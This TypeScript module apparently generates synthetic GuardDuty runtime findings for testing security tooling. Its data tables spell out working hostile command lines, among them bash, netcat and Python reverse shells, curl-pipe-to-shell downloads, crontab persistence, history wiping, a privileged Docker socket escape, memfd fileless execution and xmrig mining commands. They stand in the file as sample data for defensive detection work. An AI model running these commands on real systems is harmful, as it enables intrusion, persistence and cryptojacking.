/**
 * Runtime Monitoring details (`service.runtimeDetails`): the process GuardDuty's agent saw, its
 * lineage (parent first, up to the container runtime or init), executable path and SHA-256, user,
 * and the context of what it did. Command lines, paths and domains here are attacker-chosen text.
 */
import type { Random } from '../random';
import type { RuntimeBehaviour } from './finding-types';
import { MINUTE, SECOND, epochSeconds } from './time';

/** A process as `[name, executable path, user, uid]`. */
type Proc = readonly [name: string, path: string, user: string, uid: number];

interface Behaviour {
  /** The process itself, one picked per finding. */
  readonly processes: readonly Proc[];
  /** Its ancestors, parent first. */
  readonly parents: readonly (readonly Proc[])[];
  /** What it ran: `{remote}` is the remote IP or domain of the finding, if any. */
  readonly commandLines: readonly string[];
  readonly context?: (rng: Random, at: number, remote: string) => Record<string, unknown>;
}

const SHELLS: readonly Proc[] = [['sh', '/bin/sh', 'root', 0], ['bash', '/usr/bin/bash', 'root', 0]];
const APP: readonly Proc[] = [['node', '/usr/local/bin/node', 'node', 1000], ['java', '/opt/java/openjdk/bin/java', 'app', 1001], ['python3', '/usr/bin/python3.11', 'www-data', 33]];
const CONTAINER_INIT: readonly Proc[] = [['containerd-shim-runc-v2', '/usr/bin/containerd-shim-runc-v2', 'root', 0], ['tini', '/sbin/tini', 'root', 0]];
const HOST_INIT: readonly Proc[] = [['systemd', '/usr/lib/systemd/systemd', 'root', 0]];
const WEB: readonly Proc[] = [['gunicorn', '/usr/local/bin/gunicorn', 'www-data', 33], ['nginx', '/usr/sbin/nginx', 'www-data', 33], ['php-fpm', '/usr/sbin/php-fpm8.2', 'www-data', 33]];

const BEHAVIOURS: Record<RuntimeBehaviour, Behaviour> = {
  'new-binary': {
    processes: [['kworkerd', '/tmp/.X11-unix/kworkerd', 'root', 0], ['dbus-helper', '/dev/shm/.dbus/dbus-helper', 'node', 1000]],
    parents: [SHELLS, APP, CONTAINER_INIT],
    commandLines: ['/tmp/.X11-unix/kworkerd -c /tmp/.X11-unix/.cfg --daemon', '/dev/shm/.dbus/dbus-helper -s {remote}'],
    context: (rng, at) => ({
      modifyingProcess: processDetails(rng, ['curl', '/usr/bin/curl', 'root', 0], at - rng.int(MINUTE, 30 * MINUTE)),
      modifiedAt: epochSeconds(at - rng.int(10 * SECOND, 20 * MINUTE)),
    }),
  },
  'reverse-shell': {
    processes: [['bash', '/usr/bin/bash', 'www-data', 33], ['nc', '/usr/bin/nc.openbsd', 'www-data', 33]],
    parents: [WEB, HOST_INIT],
    commandLines: ['bash -i >& /dev/tcp/{remote}/4444 0>&1', 'nc -e /bin/sh {remote} 443', "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{remote}\",1337));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'"],
    context: () => ({ addressFamily: 'AF_INET', ianaProtocolNumber: 6 }),
  },
  'miner-dns': {
    processes: [['xmrig', '/app/.cache/xmrig', 'node', 1000], ['kdevtmpfsi', '/tmp/kdevtmpfsi', 'root', 0]],
    parents: [SHELLS, APP, CONTAINER_INIT],
    commandLines: ['/app/.cache/xmrig -o {remote}:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --tls -B', '/tmp/kdevtmpfsi --donate-level 1 -o stratum+tcp://{remote}:3333'],
  },
  'c2-dns': {
    processes: [['curl', '/usr/bin/curl', 'app', 1001], ['wget', '/usr/bin/wget', 'app', 1001]],
    parents: [SHELLS, APP, CONTAINER_INIT],
    commandLines: ['curl -fsSL https://{remote}/beacon?id=$(hostname) -o /tmp/.b', 'wget -qO- http://{remote}/stage2.sh | sh'],
  },
  'docker-socket': {
    processes: [['docker', '/usr/bin/docker', 'root', 0], ['curl', '/usr/bin/curl', 'root', 0]],
    parents: [SHELLS, CONTAINER_INIT],
    commandLines: ['docker -H unix:///var/run/docker.sock run --rm -v /:/host --privileged alpine chroot /host sh', 'curl --unix-socket /var/run/docker.sock http://localhost/containers/json'],
    context: () => ({ socketPath: '/var/run/docker.sock' }),
  },
  ptrace: {
    processes: [['python3', '/usr/bin/python3.11', 'root', 0], ['gdb', '/usr/bin/gdb', 'root', 0]],
    parents: [SHELLS, [['sshd', '/usr/sbin/sshd', 'root', 0]], HOST_INIT],
    commandLines: ['python3 /tmp/.inject.py --pid {pid}', 'gdb -p {pid} -batch -x /tmp/.gdbinit'],
    context: (rng, at) => ({ targetProcess: processDetails(rng, ['sshd', '/usr/sbin/sshd', 'root', 0], at - rng.int(1, 40) * 24 * 60 * MINUTE) }),
  },
  miner: {
    processes: [['xmrig', '/tmp/.x/xmrig', 'root', 0], ['systemd-journal', '/var/tmp/.sj/systemd-journal', 'root', 0]],
    parents: [SHELLS, APP, CONTAINER_INIT],
    commandLines: ['/tmp/.x/xmrig -c /tmp/.x/config.json --background', '/var/tmp/.sj/systemd-journal --cpu-max-threads-hint=90 -o pool.supportxmr.com:443'],
    context: () => ({ threatFilePath: '/tmp/.x/xmrig' }),
  },
  'suspicious-command': {
    processes: [['bash', '/usr/bin/bash', 'root', 0], ['sh', '/bin/sh', 'root', 0]],
    parents: [APP, CONTAINER_INIT],
    commandLines: ['curl -fsSL http://{remote}/x.sh | bash', 'echo "* * * * * root curl -s http://{remote}/k | sh" >> /etc/crontab', 'history -c && rm -f ~/.bash_history && unset HISTFILE'],
    context: () => ({ shellHistoryFilePath: '/root/.bash_history', scriptPath: '/tmp/x.sh' }),
  },
  'suspicious-tool': {
    processes: [['peirates', '/tmp/peirates', 'root', 0], ['nmap', '/usr/bin/nmap', 'root', 0], ['linpeas.sh', '/dev/shm/linpeas.sh', 'root', 0]],
    parents: [SHELLS, CONTAINER_INIT],
    commandLines: ['/tmp/peirates -i', 'nmap -sS -p- -T4 10.0.0.0/16', 'sh /dev/shm/linpeas.sh -a'],
    context: (rng) => rng.pick([
      { toolName: 'Peirates', toolCategory: 'Kubernetes penetration testing tool' },
      { toolName: 'Nmap', toolCategory: 'Network scanner' },
      { toolName: 'LinPEAS', toolCategory: 'Privilege escalation scanner' },
    ]),
  },
  fileless: {
    processes: [['[kworker/u8:3]', '/memfd: (deleted)', 'www-data', 33], ['.', '/proc/self/fd/3', 'root', 0]],
    parents: [WEB, HOST_INIT],
    commandLines: ['[kworker/u8:3]', 'python3 -c "import os;fd=os.memfd_create(\'\',1);os.write(fd,open(\'/dev/shm/.p\',\'rb\').read());os.execv(\'/proc/self/fd/%d\'%fd,[\'.\'])"'],
    context: () => ({ memoryRegions: ['memfd:', '[anon:exec]'], ldPreloadValue: '/dev/shm/.libsystem.so' }),
  },
};

function processDetails(rng: Random, [name, path, user, uid]: Proc, started: number, lineage?: Record<string, unknown>[]) {
  const details: Record<string, unknown> = {
    name,
    executablePath: path,
    executableSha256: rng.hex(64),
    namespacePid: rng.int(2, 600),
    pwd: uid === 0 ? '/root' : rng.pick(['/app', '/var/www', '/home/app', '/tmp']),
    pid: rng.int(1_000, 60_000),
    startTime: epochSeconds(started),
    uuid: rng.uuid(),
    user,
    userId: uid,
    euid: uid,
  };
  if (lineage) {
    details.parentUuid = lineage[0]?.uuid;
    details.lineage = lineage;
  }
  return details;
}

export interface RuntimeDetails {
  readonly runtimeDetails: { process: Record<string, unknown>; context?: Record<string, unknown> };
  readonly process: string;
  readonly executable: string;
  readonly commandLine: string;
}

/**
 * The runtime details of a finding of this behaviour seen at `at` (epoch ms); `remote` is the
 * finding's remote IP or domain where its command line names one.
 */
export function runtimeDetails(rng: Random, behaviour: RuntimeBehaviour, at: number, remote = '203.0.113.50'): RuntimeDetails {
  const spec = BEHAVIOURS[behaviour];
  const own = rng.pick(spec.processes);
  // Ancestors from the oldest (init) down to the parent, so that each one's parentUuid is known.
  const chain = spec.parents.map((choices) => rng.pick(choices)).reverse();
  let started = at - rng.int(2 * MINUTE, 3 * 24 * 60 * MINUTE);
  let parentUuid: string | undefined;
  const lineage: Record<string, unknown>[] = [];
  for (const proc of chain) {
    const p = processDetails(rng, proc, started);
    const entry: Record<string, unknown> = {
      startTime: p.startTime, namespacePid: p.namespacePid, userId: p.userId, name: p.name, pid: p.pid, uuid: p.uuid,
      executablePath: p.executablePath, euid: p.euid,
    };
    if (parentUuid) entry.parentUuid = parentUuid;
    parentUuid = String(p.uuid);
    lineage.unshift(entry);
    started += rng.int(SECOND, 20 * MINUTE);
  }
  const process = processDetails(rng, own, Math.min(started, at - SECOND), lineage);
  const commandLine = rng.pick(spec.commandLines).replaceAll('{remote}', remote).replaceAll('{pid}', String(rng.int(300, 9000)));
  const context: Record<string, unknown> = { commandLineExample: commandLine, ...spec.context?.(rng, at, remote) };
  return { runtimeDetails: { process, context }, process: own[0], executable: own[1], commandLine };
}
